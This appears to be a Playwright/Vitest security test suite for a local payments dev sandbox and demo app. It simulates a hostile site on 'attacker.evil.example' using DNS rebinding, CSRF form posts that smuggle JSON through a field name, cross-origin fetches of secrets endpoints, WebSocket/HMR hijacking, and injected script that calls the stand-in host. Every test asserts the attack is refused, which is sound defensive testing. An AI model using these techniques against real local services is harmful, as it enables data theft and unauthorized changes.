import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { buildCli, type BuiltCli } from '../support/buildCli.ts'
import { launchChromium } from '../support/browser.mjs'
import { startDemo, type DemoProcess } from '../support/startDemo.ts'

/**
 * A page of a stranger, in a real browser on the machine of a developer who left the sandbox and the demo
 * running. Every name of `evil.example` leads to this machine, as after DNS rebinding.
 */
let browser: Browser
let evil: { url: string; heard: string[]; close: () => void }
let cli: BuiltCli
let demo: DemoProcess
let sandbox: { url: string; stop: () => Promise<void> }
let page: Page

beforeAll(async () => {
  browser = await launchChromium({ args: hostileArgs() })
  evil = await serveEvil()
  cli = await buildCli()
  demo = await startDemo()
  const child = await cli.start('sandbox', '--port', '0')
  sandbox = { url: JSON.parse(child.firstLine).url, stop: child.stop }
}, 120_000)
afterAll(async () => {
  await browser?.close()
  await sandbox?.stop()
  await demo?.kill()
  await cli?.remove()
  evil?.close()
})

const targets = [
  ['npx cardmint sandbox', () => sandbox.url],
  ['the sandbox of npm start', () => `http://localhost:${demo.ports.SANDBOX_PORT}`],
] as const

/** A stranger's site, and a page of another local app, which is of the same site as the sandbox. */
const attackers = [
  ['a foreign site', () => evil.url],
  ['another app on localhost', () => evil.url.replace('attacker.evil.example', 'localhost')],
] as const

describe.each(targets)('%s', (_name, target) => {
  const stateOf = async () => (await fetch(`${target()}/_sandbox/state`)).json()
  const eventsOf = async () => (await fetch(`${target()}/_sandbox/events`)).json()
  const arm = async (fault: object) => {
    const response = await fetch(`${target()}/_sandbox/faults`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(fault),
    })
    expect(response.status).toBe(204)
  }
  let before: unknown
  const unharmed = () => ({ state: before, events: [], heard: [] })
  /** What it came to: was anything changed, did anything reach an upstream, did anything run and tell? */
  const outcome = async () => ({
    state: await stateOf(),
    events: await eventsOf(),
    heard: evil.heard,
  })

  beforeEach(async () => {
    await fetch(`${target()}/_sandbox/reset`, { method: 'POST' })
    before = await stateOf()
  })

  describe.each(attackers)('left running, and %s', (_who, attacker) => {
    beforeEach(async () => {
      page = await browser.newPage()
      await page.goto(attacker())
      evil.heard.length = 0
    })
    afterEach(async () => {
      await page.context().close()
    })

    test.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])(
      'a form of %s changes nothing',
      async (type) => {
        for (const path of ['clock', 'faults', 'reset']) {
          const status = await submit(`${target()}/_sandbox/${path}`, type)
          expect(status).toBe(403)
        }
        expect(await outcome()).toEqual(unharmed())
      },
    )

    test('fetch reads and changes nothing', async () => {
      const results = await page.evaluate(async (url) => {
        const answers: string[] = []
        const attempt = async (path: string, init: RequestInit) => {
          const answer = await fetch(url + path, init).then(
            async (response) => `${response.type} ${await response.text()}`,
            () => 'refused',
          )
          answers.push(answer.trim())
        }
        const body = '{"advanceMs": 60000}'
        const headers = { 'Content-Type': 'application/json' }
        for (const mode of ['cors', 'no-cors'] as const) {
          await attempt('/_sandbox/state', { mode })
          await attempt('/_sandbox/events', { mode, credentials: 'include' })
          await attempt('/_sandbox/clock', { mode, method: 'POST', body })
          await attempt('/_sandbox/clock', { mode, method: 'POST', body: new Blob([body]) })
          await attempt('/_sandbox/reset', { mode, method: 'POST' })
          await attempt('/api/client-secrets', { mode, method: 'POST', body })
          await attempt('/accounts/abcd1234/secrets', { mode })
        }
        await attempt('/_sandbox/clock', { method: 'POST', headers, body })
        await attempt('/_sandbox/faults', { method: 'DELETE' })
        await attempt('/accounts/abcd1234/secrets', { headers: { Authorization: 'Basic eA==' } })
        navigator.sendBeacon(`${url}/_sandbox/faults`, '{"status": 500}')
        return answers
      }, target())
      expect(results).toHaveLength(17)
      for (const result of results) expect(['refused', 'opaque']).toContain(result)
      expect(await outcome()).toEqual(unharmed())
    })

    test('a script of a fault does not run, and no image, style or frame of it loads', async () => {
      const match = { path: '/api/x' }
      const told = `fetch('${attacker()}told')`
      await arm({ match, status: 200, contentType: 'text/javascript', body: told })
      await page.evaluate(async (url) => {
        const load = (element: HTMLElement) =>
          new Promise<void>((resolve) => {
            element.addEventListener('load', () => resolve())
            element.addEventListener('error', () => resolve())
            document.body.append(element)
          })
        const source = `${url}/api/x`
        const made = (name: string, fields: object) =>
          Object.assign(document.createElement(name), fields)
        await load(made('script', { src: source }))
        await load(made('script', { src: source, type: 'module' }))
        await load(made('link', { href: source, rel: 'stylesheet' }))
        await load(made('img', { src: source }))
        await load(made('iframe', { src: source }))
        await load(made('iframe', { src: source, sandbox: 'allow-scripts' }))
      }, target())
      expect(await outcome()).toEqual(unharmed())
    })

    test('a page of a fault does not run when it is opened', async () => {
      const body = `<script>fetch('${attacker()}told')</script><img src="${attacker()}told">`
      await arm({ match: { path: '/api/x' }, status: 200, contentType: 'text/html', body })
      const [popup] = await Promise.all([
        page.waitForEvent('popup'),
        page.evaluate((url) => void window.open(url), `${target()}/api/x`),
      ])
      await popup.waitForLoadState()
      expect(await popup.textContent('body')).toContain('Pages may not call this')
      expect(await page.evaluate(() => document.cookie)).toBe('')
      expect(await outcome()).toEqual(unharmed())
    })

    test('no WebSocket opens, and no event stream', async () => {
      const tried = await page.evaluate(async (url) => {
        const socket = new WebSocket(`${url.replace('http', 'ws')}/_sandbox/events`)
        const stream = new EventSource(`${url}/_sandbox/events`)
        const first = (source: EventTarget) =>
          new Promise<string>((resolve) => {
            for (const type of ['open', 'error']) {
              source.addEventListener(type, () => resolve(type), { once: true })
            }
          })
        return Promise.all([first(socket), first(stream)])
      }, target())
      expect(tried).toEqual(['error', 'error'])
      expect(await outcome()).toEqual(unharmed())
    })

    test('a name that leads here is refused, and no service worker comes of it', async () => {
      const { port } = new URL(target())
      const rebound = `http://rebind.evil.example:${port}`
      const response = await page.goto(`${rebound}/_sandbox/state`)
      expect(response?.status()).toBe(403)
      const tried = await page.evaluate(async () => {
        const answer = await fetch('/_sandbox/state').then(
          ({ status }) => status,
          () => 'refused',
        )
        const worker = await Promise.resolve()
          .then(() => navigator.serviceWorker.register('/api/x'))
          .then(
            () => 'registered',
            () => 'refused',
          )
        return [answer, worker]
      })
      expect(tried).toEqual(['refused', 'refused'])
      expect(await outcome()).toEqual(unharmed())
    })
  })

  test('typed by hand, a page of a fault is shown and runs nothing', async () => {
    const body = `<p>Bad gateway</p><script>fetch('${evil.url}told'); document.cookie = 'a=1'</script>`
    await arm({ match: { path: '/api/x' }, status: 502, contentType: 'text/html', body })
    evil.heard.length = 0
    page = await browser.newPage()
    await page.goto(`${target()}/api/x`)
    expect(await page.textContent('p')).toBe('Bad gateway')
    expect(await page.evaluate(() => [window.origin, 'serviceWorker' in navigator])).toEqual([
      'null',
      true,
    ])
    const registered = page.evaluate(() => navigator.serviceWorker.register('/api/x'))
    await expect(registered).rejects.toThrow(/SecurityError|sandbox|denied/i)
    expect(await page.context().cookies()).toEqual([])
    expect(evil.heard).toEqual([])
    await page.context().close()
  })
})

describe('the page of npm start', () => {
  const pageUrl = () => `http://localhost:${demo.ports.PORT}`
  const backendUrl = () => `http://localhost:${demo.ports.BACKEND_PORT}`

  beforeEach(async () => {
    page = await browser.newPage()
    // somebody who has the demo open, with a session there
    await page.goto(pageUrl())
  })
  afterEach(() => page.context().close())

  test.each(attackers)('tells nothing to %s, and runs none of its files there', async (_w, at) => {
    await page.goto(at())
    evil.heard.length = 0
    const outcome = await page.evaluate(
      async ([url, backend]) => {
        const read = async (path: string, init: RequestInit = {}) =>
          fetch(path, { credentials: 'include', ...init }).then(
            async (response) => `${response.status} ${await response.text()}`,
            () => 'refused',
          )
        const body = '{"payer":{"id":"8f51c396-6e29-49a6-ba5a-1a31d5420158"}}'
        const post = { method: 'POST', body, headers: { 'Content-Type': 'text/plain' } }
        const loads = (src: string) =>
          new Promise<string>((resolve) => {
            const script = Object.assign(document.createElement('script'), { src, type: 'module' })
            script.addEventListener('load', () => resolve('loaded'))
            script.addEventListener('error', () => resolve('refused'))
            document.body.append(script)
          })
        const opens = (address: string, protocol?: string) =>
          new Promise<string>((resolve) => {
            const socket = new WebSocket(address, protocol)
            socket.addEventListener('open', () => resolve('open'))
            socket.addEventListener('error', () => resolve('refused'))
          })
        const frames = () =>
          new Promise<string>((resolve) => {
            const frame = Object.assign(document.createElement('iframe'), { src: url })
            frame.addEventListener('load', () =>
              resolve(frame.contentDocument ? 'read' : 'refused'),
            )
            document.body.append(frame)
          })
        return Promise.all([
          read(url),
          read(`${url}/demo/activity`),
          read(`${url}/main.tsx`),
          read(`${url}/__open-in-editor?file=main.tsx`),
          read(`${url}/api/accounts/abcd1234/secrets`),
          read(`${url}/api/client-secrets`, post),
          read(`${backend}/api/accounts/abcd1234/secrets`),
          read(`${backend}/api/client-secrets`, post),
          loads(`${url}/main.tsx`),
          loads(`${url}/@vite/client`),
          opens(`${url.replace('http', 'ws')}/`, 'vite-hmr'),
          opens(`${url.replace('http', 'ws')}/?token=guess`, 'vite-hmr'),
          frames(),
        ])
      },
      [pageUrl(), backendUrl()] as const,
    )
    expect(new Set(outcome)).toEqual(new Set(['refused']))
    const none = { mode: 'no-cors', credentials: 'include' } as const
    const opaque = await page.evaluate(
      async ([url, init]) => {
        const { type, status } = await fetch(`${url}/__open-in-editor?file=x`, init).catch(() => ({
          type: 'refused',
          status: 0,
        }))
        return [type, status]
      },
      [pageUrl(), none] as const,
    )
    expect(opaque[1]).toBe(0)
  })

  test.each(['PORT', 'BACKEND_PORT', 'SANDBOX_PORT'] as const)(
    'is not served under a name that leads here (%s)',
    async (variable) => {
      const rebound = `http://rebind.evil.example:${demo.ports[variable]}`
      for (const path of ['/', '/demo/activity', '/main.tsx', '/api/accounts/abcd1234/secrets']) {
        const response = await page.goto(rebound + path)
        expect(response?.ok()).toBe(false)
      }
      expect(await page.context().cookies(rebound)).toEqual([])
    },
  )

  test('opens no editor for a foreign page that sends its visitor there', async () => {
    await page.goto(evil.url)
    const [response] = await Promise.all([
      page.waitForResponse('**/__open-in-editor*'),
      page.evaluate((url) => location.assign(url), `${pageUrl()}/__open-in-editor?file=main.tsx`),
    ])
    expect(response.status()).toBe(403)
  })

  test('can be linked to', async () => {
    await page.goto(evil.url)
    await page.evaluate((url) => location.assign(url), `${pageUrl()}/`)
    await page.getByLabel('Card number').waitFor()
    expect(new URL(page.url()).port).toBe(String(demo.ports.PORT))
  })
})

function hostileArgs(): string[] {
  return [
    '--no-sandbox',
    '--disable-gpu',
    '--no-first-run',
    '--disable-background-networking',
    '--host-resolver-rules=MAP *.evil.example 127.0.0.1',
  ]
}

/** The stranger's server: an empty page, and an ear for what scripts of ours would tell it. */
async function serveEvil() {
  const heard: string[] = []
  const listener: RequestListener = (request, response) => {
    if (request.url?.includes('told')) heard.push(request.url)
    response.setHeader('Content-Type', 'text/html')
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('<!doctype html><title>Win a prize</title><link rel="icon" href="data:,">')
  }
  const server = createServer(listener)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  // a server that listens on TCP has an address of this kind
  const { port } = server.address() as AddressInfo
  const close = () => {
    server.closeAllConnections()
    server.close()
  }
  return { url: `http://attacker.evil.example:${port}/`, heard, close }
}

/** A form whose body is JSON to a server that does not look, as `name=value` of `text/plain`. */
async function submit(action: string, enctype: string): Promise<number> {
  const [response, popup] = await Promise.all([
    page.context().waitForEvent('response', (answer) => answer.url() === action),
    page.waitForEvent('popup'),
    page.evaluate(
      ([address, type]) => {
        const form = Object.assign(document.createElement('form'), {
          action: address,
          method: 'post',
          target: '_blank',
        })
        form.enctype = type
        const name = '{"advanceMs":60000,"status":200,"body":"<script>1</script>","x":"'
        form.append(Object.assign(document.createElement('input'), { name, value: '"}' }))
        document.body.append(form)
        form.submit()
      },
      [action, enctype] as const,
    ),
  ])
  await popup.close()
  return response.status()
}
